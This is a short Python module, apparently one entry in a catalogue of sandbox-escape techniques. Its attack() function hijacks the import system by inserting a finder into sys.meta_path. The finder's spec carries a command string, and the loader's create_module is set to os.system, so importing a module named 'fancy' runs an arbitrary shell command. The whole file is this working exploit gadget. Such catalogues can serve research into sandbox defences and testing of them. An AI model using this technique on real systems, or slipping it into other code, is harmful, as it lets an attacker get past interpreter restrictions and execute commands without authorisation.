"""A spec is a command, and its loader's create_module() a function of C."""
CATEGORY = "callable"
REACH = "run"

import os
import sys

from . import payload


class Loader:
    exec_module = print


class Spec(str):
    name = "fancy"
    submodule_search_locations = origin = cached = None
    has_location = False
    parent = ""


class Finder:

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "fancy":
            spec = Spec(payload.COMMAND)
            spec.loader = Loader()
            spec.loader.create_module = os.system
            return spec


def attack():
    sys.meta_path.insert(0, Finder)
